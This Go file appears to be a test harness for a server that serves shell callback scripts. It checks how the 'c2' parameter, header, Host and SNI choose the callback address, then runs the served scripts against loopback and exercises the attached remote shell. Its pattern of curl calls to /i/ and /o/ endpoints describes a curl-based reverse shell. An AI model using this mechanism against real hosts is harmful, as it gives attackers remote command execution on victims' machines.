func paramVals(k int, port string) []val {
	p := func(s string) val { return val{url.QueryEscape(s), s} }
	return []val{
		p(fmt.Sprintf("p%d.param.example", k)),
		p(fmt.Sprintf("p%d.param.example:8443", k)),
		{"a%2Eb.example%3A8443", "a.b.example:8443"},
		{fmt.Sprintf("10.9.8.%d:9000", k%250), fmt.Sprintf("10.9.8.%d:9000", k%250)},
		{"%5B2001:db8::1%5D:8443", "[2001:db8::1]:8443"},
		{fmt.Sprintf("cdn%d.example/x/y", k), fmt.Sprintf("cdn%d.example/x/y", k)},
		{"b%C3%BCcher.example", "bücher.example"},
		p("localhost:" + port),
		p(fmt.Sprintf("PaRam%d.Example:443", k)),
	}
}

func headerVals(k int) []val {
	return []val{
		{fmt.Sprintf("hd%d.header.example", k), fmt.Sprintf("hd%d.header.example", k)},
		{fmt.Sprintf("hd%d.header.example:444", k), fmt.Sprintf("hd%d.header.example:444", k)},
		{fmt.Sprintf("  hd%d.ows.example \t", k), fmt.Sprintf("hd%d.ows.example", k)},
		{"[2001:db8::2]:8443", "[2001:db8::2]:8443"},
		{"192.0.2.7", "192.0.2.7"},
	}
}

func sp(s string) *string { return &s }

// genCase: bits says which of c2 parameter (8) / c2 header (4) / Host (2) /
// SNI (1) are present; everything else is drawn from rng.
func genCase(rng *rand.Rand, idx int, l *lsn, bits int) *pcase {
	P, H, O, S := bits&8 != 0, bits&4 != 0, bits&2 != 0, bits&1 != 0
	c := &pcase{Idx: idx, Listener: l.name, Method: "GET", Proto: "HTTP/1.1", HdrName: "c2"}
	k := rng.IntN(100000)
	pv := paramVals(k, l.port)
	if P {
		v := pv[rng.IntN(len(pv))]
		switch rng.IntN(5) {
		case 0, 1:
			c.Query = &v
		case 2:
			c.Body, c.Method = &v, "POST"
		default:
			pv2 := paramVals(k+1, l.port)
			v2 := pv2[rng.IntN(len(pv2))]
			if v2.Dec == v.Dec {
				v2 = val{"other.param.example", "other.param.example"}
			}
			c.Query, c.Body, c.Method = &v, &v2, "POST"
		}
		if rng.IntN(12) == 0 { // the other carrier present but empty
			if c.Query == nil {
				c.Query = &val{}
			} else if c.Body == nil {
				c.Body, c.Method = &val{}, "POST"
			}
		}
	} else {
		switch rng.IntN(6) {
		case 0:
			c.Query = &val{}
		case 1:
			c.Body, c.Method = &val{}, "POST"
		case 2:
			c.Query, c.Body, c.Method = &val{}, &val{}, "POST"
		case 3:
			c.Method = "POST" // POST without any c2
		}
	}
	if H {
		hv := headerVals(k)
		v := hv[rng.IntN(len(hv))]
		c.Header = &v
		if rng.IntN(3) == 0 {
			c.HdrName = "C2"
		}
	} else if rng.IntN(5) == 0 {
		c.Header = &val{Enc: []string{"", "  "}[rng.IntN(2)]}
	}
	if O {
		if rng.IntN(5) < 2 {
			v := unicodeHosts[rng.IntN(len(unicodeHosts))]
			c.Abs, c.HostVec = sp(v.sent), v.name
			if rng.IntN(2) == 0 {
				c.HostHdr, c.HostForm = sp(v.want), "absolute-form+a-label-host-header"
			} else {
				c.Proto, c.HostForm = "HTTP/1.0", "absolute-form,http/1.0,no-host-header"
			}
		} else {
			ah := asciiHosts(k, l.port)
			v := ah[rng.IntN(len(ah))]
			c.HostVec = v.name
			switch rng.IntN(4) {
			case 0:
				c.HostHdr, c.Proto, c.HostForm = sp(v.sent), "HTTP/1.0", "host-header,http/1.0"
			case 1:
				c.HostHdr, c.Abs, c.HostForm = sp(v.sent), sp(v.sent), "absolute-form+equal-host-header"
			default:
				c.HostHdr, c.HostForm = sp(v.sent), "host-header"
			}
		}
	} else {
		if rng.IntN(2) == 0 {
			c.Proto, c.HostForm = "HTTP/1.0", "no-host-header,http/1.0"
		} else {
			c.HostHdr, c.HostForm = sp(""), "empty-host-header"
		}
	}
	if S {
		c.SNI = []string{fmt.Sprintf("sni%d.example", k), "localhost", "sni-host.test", "xn--bcher-kva.example"}[rng.IntN(4)]
	}
	c.Decoy = rng.IntN(4) == 0
	return c
}

func (c *pcase) raw() []byte {
	target := "/c"
	if c.Abs != nil {
		target = "https://" + *c.Abs + "/c"
	}
	var qs []string
	if c.Decoy {
		qs = append(qs, "xc2=decoy-q.example", "c22=decoy-q2.example")
	}
	if c.Query != nil {
		qs = append(qs, "c2="+c.Query.Enc)
	}
	if c.Decoy {
		qs = append(qs, "z=1")
	}
	if len(qs) > 0 {
		target += "?" + strings.Join(qs, "&")
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s %s %s\r\n", c.Method, target, c.Proto)
	if c.HostHdr != nil {
		fmt.Fprintf(&sb, "Host: %s\r\n", *c.HostHdr)
	}
	if c.Decoy {
		sb.WriteString("X-C2: decoy-h.example\r\nC2-Host: decoy-h2.example\r\n")
	}
	if c.Header != nil {
		fmt.Fprintf(&sb, "%s: %s\r\n", c.HdrName, c.Header.Enc)
	}
	body := ""
	if c.Method == "POST" {
		var bs []string
		if c.Decoy {
			bs = append(bs, "c2x=decoy-b.example")
		}
		if c.Body != nil {
			bs = append(bs, "c2="+c.Body.Enc)
		}
		body = strings.Join(bs, "&")
		fmt.Fprintf(&sb, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n", len(body))
	}
	sb.WriteString("Connection: close\r\n\r\n")
	sb.WriteString(body)
	return []byte(sb.String())
}

// effHost is the host information of the request: the authority of an
// absolute-form target, otherwise the Host header.
func (c *pcase) effHost() string {
	if c.Abs != nil {
		return *c.Abs
	}
	if c.HostHdr != nil {
		return strings.TrimSpace(*c.HostHdr)
	}
	return ""
}

func (c *pcase) class() string {
	b := func(x bool) string {
		if x {
			return "1"
		}
		return "0"
	}
	p := (c.Query != nil && c.Query.Dec != "") || (c.Body != nil && c.Body.Dec != "")
	h := c.Header != nil && strings.TrimSpace(c.Header.Dec) != ""
	return "p" + b(p) + "h" + b(h) + "o" + b(c.effHost() != "") + "s" + b(c.SNI != "")
}

type expect struct {
	Source    string   `json:"source"` // param header host sni none
	Accept    []string `json:"accept"`
	Given     []string `json:"-"`
	Err       bool     `json:"error_expected"`
	AcceptErr bool     `json:"error_also_acceptable,omitempty"`
	RestHost  bool     `json:"-"` // ambiguous case whose other reading is the Host source
	Ambiguous bool     `json:"ambiguous,omitempty"`
}

// reference is the callback address according to the statement.
func reference(c *pcase, listenPort string) expect {
	// "the c2 query/form parameter if given"
	var given []string
	emptyCarrier := false
	for _, v := range []*val{c.Body, c.Query} {
		if v == nil {
			continue
		}
		if v.Dec != "" {
			given = append(given, v.Dec)
		} else {
			emptyCarrier = true
		}
	}
	rest := func() expect {
		// "else the c2 header"
		if c.Header != nil {
			if v := strings.TrimSpace(c.Header.Dec); v != "" {
				return expect{Source: "header", Accept: []string{v}}
			}
		}
		// "else the Host header in IDNA-ASCII form"
		if h := c.effHost(); h != "" {
			a, ok := idnaASCII(h)
			if !ok {
				panic("generator produced a host without a known answer: " + h)
			}
			return expect{Source: "host", Accept: []string{a}}
		}
		// "else the TLS server name plus the listen port unless that is 443"
		if c.SNI != "" {
			if listenPort == "443" {
				return expect{Source: "sni", Accept: []string{c.SNI}}
			}
			return expect{Source: "sni", Accept: []string{c.SNI + ":" + listenPort}}
		}
		return expect{Source: "none", Err: true}
	}
	if len(given) == 0 {
		return rest()
	}
	e := expect{Source: "param", Accept: append([]string(nil), given...), Given: given}
	if emptyCarrier {
		// One carrier says "c2=" and the other gives a value: whether "the"
		// parameter is given is not decided by the statement; both readings
		// are accepted and the observed one is counted.
		e.Ambiguous = true
		f := rest()
		e.Accept = append(e.Accept, f.Accept...)
		e.AcceptErr = f.Err
		e.RestHost = f.Source == "host"
	}
	return e
}

// sourceOf says which source (if any) of the request would explain obs.
func sourceOf(c *pcase, obs, listenPort string) string {
	for _, v := range []*val{c.Body, c.Query} {
		if v != nil && v.Dec != "" && v.Dec == obs {
			return "param"
		}
	}
	if c.Header != nil && strings.TrimSpace(c.Header.Dec) != "" && strings.TrimSpace(c.Header.Dec) == obs {
		return "header"
	}
	if h := c.effHost(); h != "" {
		if a, _ := idnaASCII(h); obs == h || obs == a || (c.HostHdr != nil && obs == *c.HostHdr) {
			return "host"
		}
	}
	if c.SNI != "" && (obs == c.SNI || obs == c.SNI+":"+listenPort) {
		return "sni"
	}
	return ""
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// sweepBase is the first index of the deterministic sweep over all host
// vectors (every vector on every listener in every run).
const sweepBase = 1000000

// sweepCase: request number j of the sweep: Host only, or Host and SNI.
func sweepCase(j int, ls []*lsn) (*pcase, *lsn) {
	l := ls[j%3]
	j /= 3
	withSNI := j%2 == 1
	j /= 2
	if l == nil {
		return nil, nil
	}
	pc := &pcase{Idx: sweepBase + j, Listener: l.name, Method: "GET", Proto: "HTTP/1.1", HdrName: "c2"}
	if j < len(unicodeHosts) {
		v := unicodeHosts[j]
		pc.Abs, pc.HostVec = sp(v.sent), v.name
		if withSNI {
			pc.HostHdr, pc.HostForm = sp(v.want), "absolute-form+a-label-host-header"
		} else {
			pc.Proto, pc.HostForm = "HTTP/1.0", "absolute-form,http/1.0,no-host-header"
		}
	} else {
		v := asciiHosts(7, l.port)[j-len(unicodeHosts)]
		pc.HostHdr, pc.HostVec, pc.HostForm = sp(v.sent), v.name, "host-header"
	}
	if withSNI {
		pc.SNI = "sweep-sni.example"
	}
	return pc, l
}

func sweepLen() int { return 3 * 2 * (len(unicodeHosts) + len(asciiHosts(7, "1"))) }

func (c *ctx) precedenceCase(idx int, l *lsn, pc *pcase) {
	r := c.r
	eng := l.engine()
	if pc == nil {
		pc = genCase(r.Rng("precedence", idx), idx, l, idx%16)
	}
	raw := pc.raw()
	exp := reference(pc, l.port)
	cls := pc.class()
	from := l.mark()
	res, conn, err := hk.RoundTrip(l.addr(), pc.SNI, raw, hk.Bound)
	if err != nil || res == nil {
		r.Inconclusive(fmt.Sprintf("%s %d: request failed: %v", eng, idx, err))
		return
	}
	r.Eval(1)
	r.Count("requests:"+cls, 1)
	r.Count("listener:"+l.name, 1)
	r.Count("host_form:"+pc.HostForm, 1)
	if l.class != "" {
		r.Count("port_class_requests:"+l.class, 1)
		r.Distinct("prec|" + l.name + "|" + l.port + "|" + string(raw) + "|" + pc.SNI)
	} else {
		r.Distinct("prec|" + l.name + "|" + string(raw) + "|" + pc.SNI)
	}
	wit := map[string]any{"case": pc, "request": string(raw), "listen_port": l.port, "expected": exp, "status": res.Status, "body": string(res.Body)}
	if l.cfg != nil {
		wit["program"] = l.cfg
	}

	if exp.Err {
		r.Count("error_responses_checked", 1)
		if res.Status < 400 {
			c.violate(eng, idx, "no-source-accepted", fmt.Sprintf("a request with no c2 parameter, no c2 header, no Host and no SNI was answered with status %d", res.Status), wit)
		}
		if len(res.Body) > 0 {
			c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d for a request without any address source came with a %d-byte body", res.Status, len(res.Body)), wit)
		}
		r.Sample("precedence-error", map[string]any{"request": string(raw), "sni": pc.SNI, "status": res.Status, "body_len": len(res.Body)})
		return
	}
	keyFor := func(obs string) string {
		if exp.RestHost && sourceOf(pc, obs, l.port) != "param" && pc.HostVec != "" {
			return "idna-host:" + pc.HostVec // the other reading of an ambiguous parameter: judged as a Host case
		}
		if src := sourceOf(pc, obs, l.port); src != "" && src != exp.Source {
			return "c2-precedence:" + cls
		}
		switch exp.Source {
		case "host":
			return "idna-host:" + pc.HostVec
		case "sni":
			if l.port == "443" {
				return "sni-port-443"
			}
			if l.class != "" {
				return "sni-port:" + l.class // a listen port that only resembles 443
			}
			return "sni-port"
		}
		return "c2-precedence:" + cls
	}
	if res.Status != 200 {
		if exp.AcceptErr && res.Status >= 400 {
			r.Count("ambiguous_param:observed-fallthrough", 1)
			if len(res.Body) > 0 {
				c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
			}
			return
		}
		c.violate(eng, idx, keyFor(""), fmt.Sprintf("status %d instead of a script although the %s source gives %q (class %s, listener %s)", res.Status, exp.Source, exp.Accept, cls, l.name), wit)
		if res.Status >= 400 && len(res.Body) > 0 {
			c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
		}
		return
	}
	sc := c.checkScript(eng, idx, res.Body, conn, fmt.Sprintf("%s %d", eng, idx), wit)
	if sc == nil {
		return
	}
	obs := sc.Auth[0]
	if exp.Source == "host" && pc.HostVec != "" {
		r.Count("idna_vectors", 1)
		if pc.Abs != nil && *pc.Abs != exp.Accept[0] {
			r.Count("idna_unicode_vectors", 1)
		}
	}
	if exp.Source == "sni" {
		r.Count("sni_fallbacks:"+l.name, 1)
	}
	r.Count("authority_from:"+exp.Source, 1)
	if exp.Ambiguous {
		if contains(exp.Given, obs) {
			r.Count("ambiguous_param:observed-value", 1)
		} else {
			r.Count("ambiguous_param:observed-fallthrough", 1)
		}
	}
	if len(exp.Accept) == 2 && !exp.Ambiguous {
		if obs == pc.Body.Dec {
			r.Count("query_and_body:body-won", 1)
		} else if obs == pc.Query.Dec {
			r.Count("query_and_body:query-won", 1)
		}
	}
	for _, a := range sc.Auth {
		if !contains(exp.Accept, a) {
			c.violate(eng, idx, keyFor(a), fmt.Sprintf("script calls back to %q; by the stated precedence the %s source gives %q (class %s, listener %s, port %s)", a, exp.Source, exp.Accept, cls, l.name, l.port), wit)
			break
		}
	}
	c.awaitNotice(eng, idx, l, from, sc.ID[0], obs, wit)
	r.Sample("precedence", map[string]any{"request": string(raw), "sni": pc.SNI, "listener": l.name, "listen_port": l.port, "class": cls, "expected_source": exp.Source, "expected_authority": exp.Accept, "observed_authority": obs, "id": sc.ID[0]})
}

// start443 tries to bind the HTTPS port on a loopback address.
func start443(r *mon.Run) *lsn {
	var last error
	for _, a := range []string{"127.0.0.1:443", "127.0.0.2:443", "[::1]:443", "127.0.0.3:443"} {
		for try := 0; try < 3; try++ {
			l, err := startLsn("443", a, hk.Config{})
			if err == nil {
				if l.port != "443" {
					l.s.Stop()
					last = fmt.Errorf("asked for %s, got port %s", a, l.port)
					break
				}
				return l
			}
			last = err
			if !strings.Contains(err.Error(), "in use") {
				break
			}
			time.Sleep(time.Second)
		}
	}
	r.Count("listener_443_skipped", 1)
	r.Inconclusive(fmt.Sprintf("port 443 could not be bound on any loopback address (%v): the 'no port when 443' clause was not exercised in this run", last))
	return nil
}

func (c *ctx) precedenceEngine() {
	if !c.r.WantEngine("precedence") {
		return
	}
	c.precedenceMain()
	// after the listener on 443 has been given back (other runs may want it)
	c.portClassCases()
}

// precedenceMain: the listeners on OS-chosen ports and on 443.
func (c *ctx) precedenceMain() {
	r := c.r
	var ls []*lsn
	for _, d := range [][2]string{{"v4", "127.0.0.1:0"}, {"v6", "[::1]:0"}} {
		l, err := startLsn(d[0], d[1], hk.Config{})
		if err != nil {
			r.Inconclusive(fmt.Sprintf("listener %s did not start: %v", d[1], err))
			ls = append(ls, nil)
			continue
		}
		defer l.s.Stop()
		ls = append(ls, l)
	}
	l443 := start443(r)
	if l443 != nil {
		defer l443.s.Stop()
	}
	ls = append(ls, l443)
	n := r.N(336, 8000)
	mon.Parallel(n, 6, func(i int) {
		if !r.Want("precedence", i) {
			return
		}
		l := ls[(i/16)%3]
		if l == nil {
			r.Count("precedence_skipped_no_listener", 1)
			return
		}
		c.precedenceCase(i, l, nil)
	})
	mon.Parallel(sweepLen(), 6, func(j int) {
		if !r.Want("precedence", sweepBase+j) {
			return
		}
		if pc, l := sweepCase(j, ls); pc != nil {
			pc.Idx = sweepBase + j
			r.Count("host_vector_sweep", 1)
			c.precedenceCase(sweepBase+j, l, pc)
		}
	})
}

// ---- ids engine ------------------------------------------------------------------

func (c *ctx) idsEngine() {
	r := c.r
	if !r.Want("ids", 0) {
		return
	}
	l, err := startLsn("v4", "127.0.0.1:0", hk.Config{OchCap: 4096})
	if err != nil {
		r.Inconclusive("ids: server did not start: " + err.Error())
		return
	}
	defer l.s.Stop()
	n := r.N(3000, 50000)
	workers := 8
	mon.Parallel(workers, workers, func(w int) {
		cnt := n / workers
		if w < n%workers {
			cnt++
		}
		var conn *hk.Conn
		defer func() {
			if conn != nil {
				conn.Close()
			}
		}()
		req := []byte(fmt.Sprintf("GET /c HTTP/1.1\r\nHost: ids%d.example\r\n\r\n", w))
		for k := 0; k < cnt; k++ {
			if conn == nil {
				var err error
				if conn, err = hk.Dial(l.s.Addr, ""); err != nil {
					r.Inconclusive("ids: dial: " + err.Error())
					return
				}
			}
			conn.SetDeadline(time.Now().Add(hk.Bound))
			if _, err := conn.Write(req); err != nil {
				r.Inconclusive("ids: write: " + err.Error())
				conn.Close()
				conn = nil
				continue
			}
			res, err := hk.ReadResponse(conn.R, req)
			if err != nil || res == nil {
				r.Inconclusive(fmt.Sprintf("ids: read: %v", err))
				conn.Close()
				conn = nil
				continue
			}
			r.Eval(1)
			if res.Status != 200 {
				c.violate("ids", 0, "c2-precedence:p0h0o1s0", fmt.Sprintf("status %d for a plain GET /c with a Host header", res.Status), map[string]any{"request": string(req), "status": res.Status})
				continue
			}
			wit := map[string]any{"request": string(req), "body": string(res.Body)}
			sc := c.checkScript("ids", 0, res.Body, conn, fmt.Sprintf("ids connection %d request %d", w, k), wit)
			if sc != nil {
				r.Count("ids_engine_scripts", 1)
				if want := fmt.Sprintf("ids%d.example", w); sc.Auth[0] != want {
					c.violate("ids", 0, "c2-precedence:p0h0o1s0", fmt.Sprintf("script calls back to %q, Host was %q", sc.Auth[0], want), wit)
				}
			}
			if res.Header.Get("Connection") == "close" {
				conn.Close()
				conn = nil
			}
		}
	})
}

// ---- exec engine -----------------------------------------------------------------

var connRe = regexp.MustCompile(`(Input|Output) connected: ID "([^"]*)"`)

type execResult struct {
	key  string // "" = fine
	what string
	slow bool // the failure is a watchdog firing (candidate for one re-run)
	wit  map[string]any
}

func killGroup(cmd *exec.Cmd, done chan struct{}, grace time.Duration) bool {
	exited := false
	select {
	case <-done:
		exited = true
	case <-time.After(grace):
	}
	// the group may still hold curl children even if sh is gone
	syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	if !exited {
		<-done
	}
	return exited
}

func (c *ctx) execOnce(idx int, bound time.Duration) execResult {
	r := c.r
	variant := idx % 5
	addr, name := "127.0.0.1:0", "v4"
	if variant == 2 {
		addr, name = "[::1]:0", "v6"
	}
	l, err := startLsn(name, addr, hk.Config{})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("exec %d: server did not start: %v", idx, err))
		return execResult{}
	}
	defer l.s.Stop()
	var raw, want, sni string
	switch variant {
	case 0:
		want = "127.0.0.1:" + l.port
		raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", want)
	case 1:
		want = "localhost:" + l.port
		raw = fmt.Sprintf("GET /c?c2=%s HTTP/1.1\r\nHost: elsewhere.example\r\nConnection: close\r\n\r\n", url.QueryEscape(want))
	case 2:
		want = "[::1]:" + l.port
		raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", want)
	case 3:
		want = "127.0.0.1:" + l.port
		body := "c2=" + url.QueryEscape(want)
		raw = fmt.Sprintf("POST /c HTTP/1.1\r\nHost: elsewhere.example\r\nc2: header.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
	case 4: // nothing but the TLS server name: SNI + listen port
		want = "localhost:" + l.port
		sni = "localhost"
		raw = "GET /c HTTP/1.0\r\n\r\n"
	}
	from := l.s.Log.Len()
	res, conn, err := hk.RoundTrip(l.s.Addr, sni, []byte(raw), hk.Bound)
	if err != nil || res == nil {
		r.Inconclusive(fmt.Sprintf("exec %d: request failed: %v", idx, err))
		return execResult{}
	}
	wit := map[string]any{"request": raw, "status": res.Status, "script": string(res.Body), "listener": l.s.Addr}
	if res.Status != 200 {
		return execResult{key: "c2-precedence:exec", what: fmt.Sprintf("status %d instead of a script", res.Status), wit: wit}
	}
	sc := c.checkScript("exec", idx, res.Body, conn, fmt.Sprintf("exec %d", idx), wit)
	if sc == nil {
		return execResult{}
	}
	if sc.Auth[0] != want || sc.Auth[1] != want {
		return execResult{key: "c2-precedence:exec", what: fmt.Sprintf("script calls back to %q / %q, expected %q", sc.Auth[0], sc.Auth[1], want), wit: wit}
	}
	id := sc.ID[0]
	path := filepath.Join(r.Work, fmt.Sprintf("exec-%d-%d.sh", idx, time.Now().UnixNano()))
	if err := os.WriteFile(path, res.Body, 0o700); err != nil {
		r.Inconclusive("exec: " + err.Error())
		return execResult{}
	}
	outf, err := os.Create(path + ".out")
	if err != nil {
		r.Inconclusive("exec: " + err.Error())
		return execResult{}
	}
	defer outf.Close()
	cmd := exec.Command("/bin/sh", path)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + r.Work, "LC_ALL=C"}
	cmd.Dir = r.Work
	cmd.Stdout, cmd.Stderr = outf, outf
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		r.Inconclusive("exec: cannot start /bin/sh: " + err.Error())
		return execResult{}
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	// waitLog is Log.Wait in short slices that also notices the child's end:
	// once /bin/sh and its pipeline are gone nothing new can happen, so the
	// wait ends 2 s later (a definite outcome, not a fired watchdog).
	waitLog := func(pred func(bk.Event) bool) (ok, childGone bool) {
		deadline := time.Now().Add(bound)
		var goneAt time.Time
		for {
			if _, ok := l.s.Log.Wait(from, 200*time.Millisecond, pred); ok {
				return true, false
			}
			select {
			case <-done:
				if goneAt.IsZero() {
					goneAt = time.Now()
				} else if time.Since(goneAt) > 2*time.Second {
					return false, true
				}
			default:
			}
			if time.Now().After(deadline) {
				return false, false
			}
		}
	}
	finished := false
	defer func() {
		if !finished {
			killGroup(cmd, done, 0)
		}
	}()
	r.Count("scripts_executed", 1)
	r.Count("scripts_executed:"+[]string{"host-127.0.0.1", "c2-query-localhost", "host-[::1]", "c2-form-127.0.0.1", "sni-localhost-plus-port"}[variant], 1)
	opTail := func() []string {
		var out []string
		for _, e := range l.s.OpLines(from, -1) {
			out = append(out, e.S)
		}
		if len(out) > 30 {
			out = out[len(out)-30:]
		}
		return out
	}
	childOut := func() string {
		b, _ := os.ReadFile(path + ".out")
		return string(b)
	}

	// attach: both notices with this script's ID, then the ready notice
	in, out, ready := false, false, false
	otherID := ""
	rejected := ""
	ok, childGone := waitLog(func(e bk.Event) bool {
		if e.Kind != "op" {
			return false
		}
		if m := connRe.FindStringSubmatch(e.S); m != nil {
			if m[2] != id {
				otherID = m[2]
				return true
			}
			if m[1] == "Input" {
				in = true
			} else {
				out = true
			}
		}
		if strings.Contains(e.S, "Rejected") {
			rejected = e.S
			return true
		}
		if strings.Contains(e.S, "Shell is ready") {
			ready = true
		}
		return in && out && ready
	})
	wit["operator_lines"] = opTail()
	if otherID != "" || rejected != "" {
		wit["child_output"] = childOut()
		return execResult{key: "script-attaches-with-other-id", what: fmt.Sprintf("running the script with ID %q produced an attachment with ID %q / refusal %q", id, otherID, rejected), wit: wit}
	}
	if !ok {
		wit["child_output"] = childOut()
		if childGone {
			return execResult{key: "script-does-not-attach", what: fmt.Sprintf("/bin/sh running the served script (callback %s, ID %s) ended without having produced Input connected + Output connected + ready (input %v, output %v, ready %v)", want, id, in, out, ready), wit: wit}
		}
		return execResult{key: "script-does-not-attach", slow: true, what: fmt.Sprintf("/bin/sh running the served script (callback %s, ID %s) did not produce Input connected + Output connected + ready within %s (input %v, output %v, ready %v)", want, id, bound, in, out, ready), wit: wit}
	}
	r.Count("attaches_observed", 1)

	// round trip
	tok := fmt.Sprintf("RT-%d-", idx)
	l.s.Ich <- "echo " + tok + "$((6*7))"
	var acc strings.Builder
	lastSeq := -1 // the scan restarts at from with every slice
	ok, childGone = waitLog(func(e bk.Event) bool {
		if e.Kind != "op" || !e.Plain || e.Seq <= lastSeq {
			return false
		}
		lastSeq = e.Seq
		acc.WriteString(e.S)
		return strings.Contains(acc.String(), tok+"42")
	})
	if !ok {
		wit["operator_lines"] = opTail()
		wit["child_output"] = childOut()
		return execResult{key: "script-shell-no-roundtrip", slow: !childGone, what: fmt.Sprintf("the attached shell did not answer 'echo %s$((6*7))' with %s42 within %s (shell output so far %q)", tok, tok, bound, acc.String()), wit: wit}
	}
	r.Count("roundtrips", 1)

	// leave
	l.s.Ich <- "exit"
	_, gone := l.s.Log.Wait(from, bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
	if gone {
		r.Count("shells_gone_after_exit", 1)
	} else {
		r.Count("shells_not_gone_after_exit", 1)
	}
	if killGroup(cmd, done, 10*time.Second) {
		r.Count("script_processes_exited_by_themselves", 1)
	} else {
		r.Count("script_processes_killed", 1)
	}
	finished = true
	r.Sample("exec", map[string]any{"request": raw, "script": string(res.Body), "id": id, "callback": want, "operator_lines": opTail()})
	r.Distinct("exec|" + id)
	os.Remove(path)
	os.Remove(path + ".out")
	return execResult{}
}

func (c *ctx) execEngine() {
	r := c.r
	if !r.WantEngine("exec") {
		return
	}
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		r.Inconclusive("exec: no /usr/bin/curl on this host")
		return
	}
	n := r.N(8, 80)
	var retry []int
	var rmu sync.Mutex
	mon.Parallel(n, 2, func(i int) {
		if !r.Want("exec", i) {
			return
		}
		r.Eval(1)
		res := c.execOnce(i, hk.Bound)
		if res.key == "" {
			return
		}
		if res.slow {
			rmu.Lock()
			retry = append(retry, i)
			rmu.Unlock()
			return
		}
		c.violate("exec", i, res.key, res.what, res.wit)
	})
	// §2.6: a fired progress bound is re-run alone with the bound doubled.
	sort.Ints(retry)
	for _, i := range retry {
		res := c.execOnce(i, 2*hk.Bound)
		if res.key == "" {
			r.Count("exec_slow_then_fine", 1)
			r.Inconclusive(fmt.Sprintf("exec %d: progress bound fired once, re-run alone was fine", i))
			continue
		}
		c.violate("exec", i, res.key, res.what, res.wit)
	}
}

// ---- template engine -------------------------------------------------------------

var (
	tmplARe = regexp.MustCompile(`^#A(\d+) url=(\S*) id=(\S*) fp=(\S*)\n$`)
	tmplBRe = regexp.MustCompile(`^#B(\d+)\nfp=(\S*)\nid=(\S*)\nurl=(\S*)\ncurl https://(\S*)/i/(\S*) https://(\S*)/o/(\S*)\n$`)
	staleRe = regexp.MustCompile(`^#([AB])(\d+)[ \n]`)
)

var unparsable = []string{"{{", "PARTIAL {{.URL}} {{", "#A0 url={{.URL}} {{if}}x", "{{.URL}} {{end}}", "PARTIAL {{.URL}} {{nosuchfunction .ID}}", "PARTIAL {{.URL}} {{\"unterminated}}"}
var execFailing = []string{
	"PARTIAL {{.Nope}}",
	"{{.URL}} lead {{template \"x\"}}",
	"PARTIAL {{.URL}} {{.ID.Foo}}",
	"PARTIAL" + strings.Repeat(" filler-to-force-a-flush", 400) + "{{.Nope}}",
	"#A0 url={{.URL}} id={{.ID}} fp={{.PubkeyFP}}\n{{index .URL 100000}}",
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

func (c *ctx) templateEngine() {
	r := c.r
	if !r.WantEngine("template") {
		return
	}
	// sequence i: layout (i/2)%4 of the template path (plain, link, dirlink,
	// dirlink+link), stealth if i is odd
	seqs, steps := 8, 40
	if r.Thorough() {
		seqs, steps = 24, 100
	}
	mon.Parallel(seqs, 4, func(i int) {
		if r.Want("template", i) {
			c.templateSequence(i, steps)
		}
	})
}

// ---- entry -----------------------------------------------------------------------

func Run(r *mon.Run) {
	r.Rule = "hsrv.Server in-process on real TLS. precedence: raw requests over all 16 presence classes of c2 parameter (query, form body, both) / c2 header / Host (header, HTTP/1.0, absolute-form target carrying raw UTF-8) / SNI, with empty values, URL-encoded values, decoy names; each 200 body is parsed into its two curl commands which must agree in pin, authority and ID, the pin must equal base64(sha256(SPKI)) of the leaf presented in that handshake, the authority must equal the reference function written from the statement (IDNA answers from a fixed table), a 'Sent script' notice must carry the same ID/URL; no source at all => status >= 400 and empty body. LISTEN PORTS of the precedence engine: OS-chosen on 127.0.0.1 and [::1], 443 itself, and ports drawn by the PRNG from classes defined by their decimal relation to 443 - ends443 (1443 … 65443), ends43or3 (ends in 43 but not 443, or in 3 but not 43), starts443 (4430-4439, 44300-44399), contains443 (x443y), near443 (442, 444, 44, 43, 4, 3; needs privilege) - per class 2 (thorough 6) listeners alternating 127.0.0.1 / [::1], a port that cannot be bound is skipped for the next candidate of its class (up to 24), per listener 32 (64) requests of which every other one carries nothing but SNI (expected authority: SNI:port for every port but 443) and the rest go round the 16 presence classes; the ports actually used are in coverage.listen_addresses_by_port_class. ids: every ID seen by any engine goes into one set (charset [0-9a-z], no repeat). exec: scripts addressed to the real listener are run by /bin/sh with real curl in their own process group; Input/Output connected with that ID, ready notice, 'echo RT-n-$((6*7))' answered with RT-n-42, exit. template: the configured path is <work>/tmpl-n/current/callback.tmpl in one of four layouts (sequence n: layout (n/2)%4, stealth = same size and mtime for every version if n is odd): plain (directory + regular file), link (callback.tmpl is a symbolic link to a file in store/), dirlink (current is a symbolic link to releases/N), dirlink+link (both); links are relative or absolute and are re-pointed by rename-over or by remove+create (PRNG). Histories of {write A, write B, rename-in, unparsable, failing at execution, empty, delete, directory, no-op} on what the path leads to, plus on a link layout {relink to a new file, relink to an earlier file, remove the link's target, relink to nothing; delete = remove the link, write = edit the link's target in place} and on a dirlink layout {swap current to a new release, to an earlier release, to a release without template, remove current}; the first 10-12 steps of a symlinked sequence are a fixed tour through every kind of link change, the rest is drawn from the PRNG; the link exists and resolves when the server starts; one request after every step, the response must reflect what the configured path leads to as of that request (valid => 200 rendered from the current content; missing/dangling/unparsable/failing => status >= 400 and empty body); a model of the path is kept by the harness 